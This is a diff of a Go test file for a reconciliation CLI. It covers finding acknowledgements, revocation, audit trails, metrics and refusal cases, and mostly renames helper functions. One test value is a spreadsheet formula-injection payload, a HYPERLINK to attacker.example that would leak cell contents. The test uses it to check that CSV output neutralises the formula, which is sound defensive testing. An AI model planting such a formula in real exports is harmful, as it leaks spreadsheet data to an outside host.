@@ -19,11 +19,11 @@ import (
 	"github.com/reconcile/reconcile/reports"
 )
 
-// queryDB runs one query on a closed working file and closes it again, so
+// QueryDB runs one query on a closed working file and closes it again, so
 // that the next command can open the file for writing.
-func queryDB(t *testing.T, path, q string, args ...any) [][]string {
+func QueryDB(t *testing.T, path, q string, args ...any) [][]string {
 	t.Helper()
-	db := openReadOnly(t, path)
+	db := OpenReadOnly(t, path)
 	defer db.Close()
 	rows, err := db.Query(q, args...)
 	if err != nil {
@@ -51,10 +51,10 @@ func queryDB(t *testing.T, path, q string, args ...any) [][]string {
 }
 
 // runDate runs the sandbox fixture's data for another business date.
-func runDate(t *testing.T, f *fixture, db, out, date string, extra ...string) string {
+func runDate(t *testing.T, f *Fixture, db, out, date string, extra ...string) string {
 	t.Helper()
-	args := append(f.runArgs(db, out, extra...), "--date", date)
-	code, so, se := runCLI(t, sandboxEnv, args...)
+	args := append(f.RunArgs(db, out, extra...), "--date", date)
+	code, so, se := RunCLI(t, SandboxEnv, args...)
 	if code != ExitOK {
 		t.Fatalf("run %s exited %d\n%s\n%s", date, code, so, se)
 	}
@@ -67,7 +67,7 @@ type finding struct{ kind, merchant, entity string }
 // stateOf is a finding's state in a run, with its acknowledgement's owner.
 func stateOf(t *testing.T, db, runID string, f finding) string {
 	t.Helper()
-	rows := queryDB(t, db, `SELECT state || coalesce(' ' || ack_owner, '') FROM findings
+	rows := QueryDB(t, db, `SELECT state || coalesce(' ' || ack_owner, '') FROM findings
 		WHERE run_id = ? AND kind = ? AND merchant_id = ? AND entity_id = ?`, runID, f.kind, f.merchant, f.entity)
 	if len(rows) != 1 {
 		return fmt.Sprintf("(%d rows)", len(rows))
@@ -85,7 +85,7 @@ func stateOf(t *testing.T, db, runID string, f finding) string {
 // exits 0 and reports the same findings.
 func TestAcknowledgeEndToEnd(t *testing.T) {
 	t.Parallel() // its own sandbox, files and database
-	f := newFixture(t, sandbox.Config{})
+	f := NewFixture(t, sandbox.Config{})
 	work := t.TempDir()
 	db, out := filepath.Join(work, "r.duckdb"), filepath.Join(work, "out")
 	runDay := func(date string, extra ...string) string {
@@ -96,12 +96,12 @@ func TestAcknowledgeEndToEnd(t *testing.T) {
 	// The first day is the same run in both: the test's own is a copy.
 	plain, plainOut := filepath.Join(work, "plain.duckdb"), filepath.Join(work, "plain-out")
 	runDate(t, f, plain, plainOut, "2026-11-20")
-	copyRunFiles(t, plain, plainOut, db, out)
+	CopyRunFiles(t, plain, plainOut, db, out)
 	runDate(t, f, plain, plainOut, "2026-11-21")
 
 	// Two findings that stay from day to day: subscriptions' standing states.
 	var picked []finding
-	for _, r := range queryDB(t, db, `SELECT kind, merchant_id, entity_id FROM findings WHERE run_id = '2026-11-20'
+	for _, r := range QueryDB(t, db, `SELECT kind, merchant_id, entity_id FROM findings WHERE run_id = '2026-11-20'
 		AND kind IN ('subscription_delinquent', 'subscription_suspended') AND amount IS NOT NULL ORDER BY kind, merchant_id, entity_id LIMIT 2`) {
 		picked = append(picked, finding{r[0], r[1], r[2]})
 	}
@@ -111,12 +111,12 @@ func TestAcknowledgeEndToEnd(t *testing.T) {
 	byCommand, byFile := picked[0], picked[1]
 
 	const reason = `=HYPERLINK("http://attacker.example/?"&A1,"Approved")`
-	code, so, se := runCLI(t, nil, "ack", byCommand.kind, byCommand.entity, "--merchant", byCommand.merchant,
+	code, so, se := RunCLI(t, nil, "ack", byCommand.kind, byCommand.entity, "--merchant", byCommand.merchant,
 		"--reason", reason, "--owner", "Jane Doe", "--until", "2026-11-21", "--ticket", "FIN-42", "--by", "jdoe", "--db", db)
 	if code != ExitOK || !strings.HasPrefix(so, "acknowledged: "+byCommand.kind) || !strings.Contains(so, "run 2026-11-20") {
 		t.Fatalf("ack: exit %d\n%s\n%s", code, so, se)
 	}
-	code, so, se = runCLI(t, nil, "ack", "--list", "--format", "csv", "--db", db)
+	code, so, se = RunCLI(t, nil, "ack", "--list", "--format", "csv", "--db", db)
 	if code != ExitOK || !strings.Contains(so, byCommand.entity) || !strings.Contains(so, "'"+strings.ReplaceAll(reason, `"`, `""`)) {
 		t.Errorf("ack --list: exit %d\n%s\n%s", code, so, se)
 	}
@@ -137,7 +137,7 @@ func TestAcknowledgeEndToEnd(t *testing.T) {
 	// Day 2: both acknowledged; nothing else changes.
 	metrics := filepath.Join(work, "r.prom")
 	hook := notifytest.StartHook(t)
-	notifyFile := writeText(t, "notify.yaml", "webhook:\n  url-file: "+writeText(t, "hook-url", hook.URL+"/hooks/T0/B0/secret")+"\n")
+	notifyFile := WriteText(t, "notify.yaml", "webhook:\n  url-file: "+WriteText(t, "hook-url", hook.URL+"/hooks/T0/B0/secret")+"\n")
 	so = runDay("2026-11-21", "--acknowledgements", file, "--metrics-file", metrics, "--notify", notifyFile)
 	if !strings.Contains(so, "of which acknowledged: 2") {
 		t.Errorf("the run's summary does not say 2 are acknowledged:\n%s", so)
@@ -155,7 +155,7 @@ func TestAcknowledgeEndToEnd(t *testing.T) {
 	const findingsOfDay2 = `SELECT kind, merchant_id, entity_id, coalesce(amount_text(amount, currency), ''), coalesce(currency, ''),
 		CASE WHEN state = 'acknowledged' THEN '(acknowledged)' ELSE state END
 		FROM findings WHERE run_id = '2026-11-21' ORDER BY ALL`
-	got, want := queryDB(t, db, findingsOfDay2), queryDB(t, plain, findingsOfDay2)
+	got, want := QueryDB(t, db, findingsOfDay2), QueryDB(t, plain, findingsOfDay2)
 	acked := 0
 	for i := range got {
 		if i < len(want) && got[i][5] == "(acknowledged)" && want[i][5] != "resolved" {
@@ -165,7 +165,7 @@ func TestAcknowledgeEndToEnd(t *testing.T) {
 	if acked != 2 || fmt.Sprint(got) != fmt.Sprint(want) {
 		t.Errorf("day 2's findings with acknowledgements (%d acknowledged) differ from those without:\n%v\n%v", acked, got, want)
 	}
-	counts := queryDB(t, db, `SELECT count(*) FILTER (WHERE state = 'new'), count(*) FILTER (WHERE state = 'open')
+	counts := QueryDB(t, db, `SELECT count(*) FILTER (WHERE state = 'new'), count(*) FILTER (WHERE state = 'open')
 		FROM findings WHERE run_id = '2026-11-21'`)[0]
 	checkAcknowledgedOutputs(t, out, "2026-11-21", byCommand, reason, counts[0], counts[1], metrics)
 	// The morning digest counts them apart too.
@@ -189,15 +189,15 @@ func TestAcknowledgeEndToEnd(t *testing.T) {
 		}
 	}
 	// Acknowledged again and revoked by the command, without --merchant.
-	if code, so, se := runCLI(t, nil, "ack", byCommand.kind, byCommand.entity, "--merchant", byCommand.merchant,
+	if code, so, se := RunCLI(t, nil, "ack", byCommand.kind, byCommand.entity, "--merchant", byCommand.merchant,
 		"--reason", "again", "--owner", "Jane Doe", "--until", "2026-12-31", "--by", "jdoe", "--db", db); code != ExitOK {
 		t.Fatalf("ack again: exit %d\n%s\n%s", code, so, se)
 	}
-	if code, so, se := runCLI(t, nil, "ack", "--revoke", byCommand.kind, byCommand.entity, "--by", "sam", "--db", db); code != ExitOK ||
+	if code, so, se := RunCLI(t, nil, "ack", "--revoke", byCommand.kind, byCommand.entity, "--by", "sam", "--db", db); code != ExitOK ||
 		!strings.Contains(so, "revoked: "+byCommand.kind) {
 		t.Errorf("ack --revoke: exit %d\n%s\n%s", code, so, se)
 	}
-	code, so, se = runCLI(t, nil, "sql", "--db", db, "--format", "csv",
+	code, so, se = RunCLI(t, nil, "sql", "--db", db, "--format", "csv",
 		"SELECT action, changed_by, split_part(source, ' ', 1) AS source, coalesce(run_id, '') AS run, entity_id FROM acknowledgement_audit ORDER BY seq")
 	if code != ExitOK {
 		t.Fatalf("reconcile sql on the audit: %d %s", code, se)
@@ -216,7 +216,7 @@ func TestAcknowledgeEndToEnd(t *testing.T) {
 		t.Errorf("the audit trail:\n%s\nwant\n%s", so, trail)
 	}
 	// reconcile sql --tables documents the new tables.
-	if code, so, _ := runCLI(t, nil, "sql", "--db", db, "--tables", "acknowledgement_audit"); code != ExitOK || !strings.Contains(so, "changed_by") {
+	if code, so, _ := RunCLI(t, nil, "sql", "--db", db, "--tables", "acknowledgement_audit"); code != ExitOK || !strings.Contains(so, "changed_by") {
 		t.Errorf("sql --tables acknowledgement_audit: %d\n%s", code, so)
 	}
 }
@@ -306,25 +306,25 @@ func checkAcknowledgedOutputs(t *testing.T, out, date string, ack finding, reaso
 		t.Errorf("manifest: acknowledged %d, new %d, open %d; want 2, %s, %s", ackd, newN, openN, newCount, openCount)
 	}
 
-	samples := parseProm(t, metrics)
+	samples := ParseProm(t, metrics)
 	var promAck, promNew, promOpen float64
 	for _, s := range samples {
-		if s.name != "reconcile_findings" {
+		if s.Name != "reconcile_findings" {
 			continue
 		}
-		switch s.labels["state"] {
+		switch s.Labels["state"] {
 		case "acknowledged":
-			promAck += s.value
+			promAck += s.Value
 		case "new":
-			promNew += s.value
+			promNew += s.Value
 		case "open":
-			promOpen += s.value
+			promOpen += s.Value
 		}
 	}
 	if promAck != 2 || fmt.Sprint(promNew) != newCount || fmt.Sprint(promOpen) != openCount {
 		t.Errorf("metrics: acknowledged %v, new %v, open %v; want 2, %s, %s", promAck, promNew, promOpen, newCount, openCount)
 	}
-	if v, ok := promValue(samples, "reconcile_findings", "kind", ack.kind, "state", "acknowledged"); !ok || v < 1 {
+	if v, ok := PromValue(samples, "reconcile_findings", "kind", ack.kind, "state", "acknowledged"); !ok || v < 1 {
 		t.Errorf("metrics: reconcile_findings{kind=%q,state=\"acknowledged\"} = %v, %v", ack.kind, v, ok)
 	}
 
@@ -352,26 +352,26 @@ func openMemoryDuckDB(t *testing.T) *sql.DB {
 // way, and a database that is not there is not created.
 func TestAcknowledgeRefusals(t *testing.T) {
 	t.Parallel() // its own copy of the shared small run's files and database
-	r := sharedSmallRun(t)
-	f := r.f
-	db, out := r.copy(t)
+	r := SharedSmallRun(t)
+	f := r.F
+	db, out := r.Copy(t)
 	work := filepath.Dir(db)
-	if code, so, se := r.code, r.Stdout, r.Stderr; code != ExitOK {
+	if code, so, se := r.Code, r.Stdout, r.Stderr; code != ExitOK {
 		t.Fatalf("run: %d\n%s\n%s", code, so, se)
 	}
-	runsBefore := queryDB(t, db, `SELECT count(*), max(attempts) FROM runs`)[0]
+	runsBefore := QueryDB(t, db, `SELECT count(*), max(attempts) FROM runs`)[0]
 	bad := filepath.Join(work, "bad.yaml")
 	os.WriteFile(bad, []byte("acknowledgements:\n  - kind: missed_cycle\n    merchant: m1\n    entity: s1:2\n    reason: r\n    owner: o\n    until: 2026-13-01\n"), 0o644)
-	code, _, se := runCLI(t, sandboxEnv, append(f.runArgs(db, out), "--acknowledgements", bad)...)
+	code, _, se := RunCLI(t, SandboxEnv, append(f.RunArgs(db, out), "--acknowledgements", bad)...)
 	if code != ExitFailed || !strings.Contains(se, "line 7: until \"2026-13-01\"") {
 		t.Errorf("a run with a bad acknowledgements file: exit %d, %s", code, se)
 	}
-	if got := queryDB(t, db, `SELECT count(*), max(attempts) FROM runs`)[0]; !slices.Equal(got, runsBefore) {
+	if got := QueryDB(t, db, `SELECT count(*), max(attempts) FROM runs`)[0]; !slices.Equal(got, runsBefore) {
 		t.Errorf("runs %v after the refused run, %v before: it must not have started", got, runsBefore)
 	}
 	// The same through the environment, as every flag.
-	code, _, se = runCLI(t, map[string]string{"RECONCILE_SECRET": sandbox.DefaultSecret, "RECONCILE_ACKNOWLEDGEMENTS": bad}, f.runArgs(db, out)...)
-	if code != ExitFailed || !strings.Contains(se, printed(bad)) {
+	code, _, se = RunCLI(t, map[string]string{"RECONCILE_SECRET": sandbox.DefaultSecret, "RECONCILE_ACKNOWLEDGEMENTS": bad}, f.RunArgs(db, out)...)
+	if code != ExitFailed || !strings.Contains(se, Printed(bad)) {
 		t.Errorf("RECONCILE_ACKNOWLEDGEMENTS: exit %d, %s", code, se)
 	}
 	missing := filepath.Join(work, "none.duckdb")
@@ -390,15 +390,15 @@ func TestAcknowledgeRefusals(t *testing.T) {
 		{[]string{"ack", "--revoke", "missed_cycle", "s1:2", "--reason", "x", "--db", db}, "--reason is for making"},
 		{[]string{"ack", "--revoke", "missed_cycle", "s1:2", "--db", db}, "no acknowledgement of missed_cycle"},
 	} {
-		code, _, se := runCLI(t, nil, c.args...)
-		if code != ExitFailed || !strings.Contains(se, printed(c.want)) {
+		code, _, se := RunCLI(t, nil, c.args...)
+		if code != ExitFailed || !strings.Contains(se, Printed(c.want)) {
 			t.Errorf("%v: exit %d, %q; want 1 and %q", c.args, code, se, c.want)
 		}
 	}
 	if _, err := os.Stat(missing); err == nil {
 		t.Error("ack created the database it was given")
 	}
-	if n := queryDB(t, db, `SELECT count(*) FROM acknowledgement_audit`)[0][0]; n != "0" {
+	if n := QueryDB(t, db, `SELECT count(*) FROM acknowledgement_audit`)[0][0]; n != "0" {
 		t.Errorf("%s audit rows after refusals only", n)
 	}
 }
@@ -410,14 +410,14 @@ func TestAcknowledgeWhileARunHoldsTheDatabase(t *testing.T) {
 	if testing.Short() {
 		t.Skip("builds the binary: skipped with -short")
 	}
-	fast := sharedSmallRun(t) // the first run: its own copy of the shared small run
-	db, out := fast.copy(t)
-	if code, so, se := fast.code, fast.Stdout, fast.Stderr; code != ExitOK {
+	fast := SharedSmallRun(t) // the first run: its own copy of the shared small run
+	db, out := fast.Copy(t)
+	if code, so, se := fast.Code, fast.Stdout, fast.Stderr; code != ExitOK {
 		t.Fatalf("first run: %d\n%s\n%s", code, so, se)
 	}
-	rows := queryDB(t, db, `SELECT kind, merchant_id, entity_id FROM findings WHERE run_id = '2026-11-20' AND state <> 'resolved' LIMIT 1`)
-	slow := newFixture(t, sandbox.Config{Faults: sandbox.Faults{Latency: 100 * time.Millisecond}})
-	writer := startRun(t, slow.runArgs(db, out, "--force", "--concurrency", "1"))
+	rows := QueryDB(t, db, `SELECT kind, merchant_id, entity_id FROM findings WHERE run_id = '2026-11-20' AND state <> 'resolved' LIMIT 1`)
+	slow := NewFixture(t, sandbox.Config{Faults: sandbox.Faults{Latency: 100 * time.Millisecond}})
+	writer := StartRun(t, slow.RunArgs(db, out, "--force", "--concurrency", "1"))
 	defer func() { writer.Process.Kill(); writer.Wait() }()
 	time.Sleep(500 * time.Millisecond) // the writer opens the database before its first request
 
@@ -427,7 +427,7 @@ func TestAcknowledgeWhileARunHoldsTheDatabase(t *testing.T) {
 		{"ack", "--revoke", rows[0][0], rows[0][2], "--db", db},
 	} {
 		start := time.Now()
-		code, _, stderr := runCLI(t, nil, args...)
+		code, _, stderr := RunCLI(t, nil, args...)
 		if code != ExitFailed || !strings.Contains(stderr, "in use by another process") || time.Since(start) > 10*time.Second {
 			t.Errorf("%v while a run writes: exit %d after %v, %q; want 1 at once, saying the database is in use", args[:2], code, time.Since(start), stderr)
 		}
@@ -437,7 +437,7 @@ func TestAcknowledgeWhileARunHoldsTheDatabase(t *testing.T) {
 	}
 	writer.Process.Signal(os.Interrupt) // a clean stop, so that the file can be read after
 	writer.Wait()
-	if n := queryDB(t, db, `SELECT count(*) FROM acknowledgement_audit`)[0][0]; n != "0" {
+	if n := QueryDB(t, db, `SELECT count(*) FROM acknowledgement_audit`)[0][0]; n != "0" {
 		t.Errorf("%s audit rows: ack changed the database while a run held it", n)
 	}
 }
